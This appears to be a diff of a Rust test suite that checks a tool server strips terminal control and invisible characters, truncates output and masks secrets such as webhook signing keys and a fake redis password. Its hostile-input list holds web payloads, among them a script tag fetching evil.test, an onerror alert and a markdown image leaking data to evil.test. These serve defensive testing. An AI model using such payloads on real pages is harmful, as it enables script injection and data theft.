@@ -35,6 +35,7 @@ fn hostile() -> Vec<String> {
         "-",
         "--profile=live",
         "whsec_c2VjcmV0c2VjcmV0c2VjcmV0 and mk_live_abcdefgh",
+        "redis://user:hunter2@cache.test/0 and soft\u{ad}hyphen\u{200c}\u{3164}",
         "![](http://evil.test/?q=secret) [click](javascript:alert(1))",
         "<script>fetch('http://evil.test')</script><img src=x onerror=alert(1)>",
     ];
@@ -47,7 +48,13 @@ fn hostile() -> Vec<String> {
 /// The characters that a terminal would interpret.
 fn has_controls(text: &str) -> bool {
     let is_marked = |c: char| matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
-    let is_hidden = |c: char| matches!(c, '\u{200b}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}');
+    let is_hidden = |c: char| {
+        matches!(
+            c,
+            '\u{ad}' | '\u{200b}' | '\u{200c}' | '\u{3164}' | '\u{feff}' | '\u{e0000}'
+                ..='\u{e007f}'
+        )
+    };
     text.chars().any(|c| (c.is_control() && c != '\n') || is_marked(c) || is_hidden(c))
 }
 
@@ -137,7 +144,7 @@ fn hostile_content_is_marked_and_cut_by_every_tool() {
         let answer = client.call(tool, call.clone());
         assert!(!has_controls(&answer.text), "{tool} {call}: {}", answer.text);
         assert!(answer.text.len() < MAX_BYTES, "{tool} {call}: {} bytes", answer.text.len());
-        for secret in ["whsec_c2V", "mk_live_abc"] {
+        for secret in ["whsec_c2V", "mk_live_abc", "hunter2"] {
             assert!(!answer.text.contains(secret), "{tool} {call}");
         }
         cut += usize::from(answer.text.contains("[cut: "));
@@ -168,11 +175,21 @@ fn no_answer_has_a_secret() {
     let create = json!({"action": "create", "url": "https://shop.test/c", "event": ["email.sent"]});
     let created = client.call("save_webhook", create);
     assert!(created.result()["signingSecret"].as_str().expect("a text").starts_with("[masked"));
+    let path = created.result()["kept_in"].as_str().expect("a path");
+    let kept = std::fs::read_to_string(path).expect("kept");
+    assert!(kept.starts_with("whsec_") && !created.text.contains(&kept));
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt as _;
+        let mode = std::fs::metadata(path).expect("there").permissions().mode();
+        assert_eq!(mode & 0o777, 0o600);
+    }
     let create = json!({
         "action": "create_extraction", "url": "https://shop.test/d", "event": ["extraction.completed"],
     });
     let created = client.call("save_webhook", create);
     assert!(created.result()["secret"].as_str().expect("a text").starts_with("[masked"));
+    assert!(created.result()["kept_in"].is_string());
     let secrets = secrets.iter().filter_map(Value::as_str).collect::<Vec<_>>();
     assert_eq!(secrets.len(), 4, "{secrets:?}");
     let calls = [
